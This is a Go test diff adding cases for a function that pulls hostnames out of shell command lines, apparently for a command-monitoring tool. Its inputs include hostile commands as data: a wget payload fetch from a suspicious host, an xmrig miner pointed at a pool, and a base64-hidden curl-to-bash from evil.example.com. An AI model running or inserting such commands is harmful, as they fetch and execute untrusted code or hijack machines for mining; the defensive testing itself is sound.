@@ -52,3 +52,23 @@ func TestDecoded(t *testing.T) {
 		}
 	}
 }
+
+func TestURLHosts(t *testing.T) {
+	for _, c := range []struct{ line, want string }{
+		{"curl -fsSL -o /work/data.csv https://data.acme.io/exports/x.csv", "data.acme.io"},
+		{"sh -c wget http://evil-cdn.ru:8080/x86; wget http://EVIL-cdn.ru/b", "evil-cdn.ru"},
+		{"git clone https://user.name:token@github.com/a/b", "github.com"},
+		{"git clone https://token@github.com/a/b", "github.com"},
+		{"curl http://45.9.148.35/x http://localhost:8080 http://db.prod.svc:80 http://node1.local http://short/", ""},
+		{"curl http://a.example.com;curl http://b.example.com", "a.example.com, b.example.com"},
+		{"xmrig -o stratum+tcp://pool.minexmr.com:4444", "pool.minexmr.com"},
+		{"sh -c echo Y3VybCAtZnNTTCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9hLnNofGJhc2g=|base64 -d|bash", "evil.example.com"},
+		{"curl http://-x.example.com http://x..com http://.com ://", ""},
+		{"curl https://", ""},
+		{"", ""},
+	} {
+		if got := strings.Join(urlHostsOf(c.line), ", "); got != c.want {
+			t.Errorf("urlHostsOf(%q) = %q, want %q", c.line, got, c.want)
+		}
+	}
+}
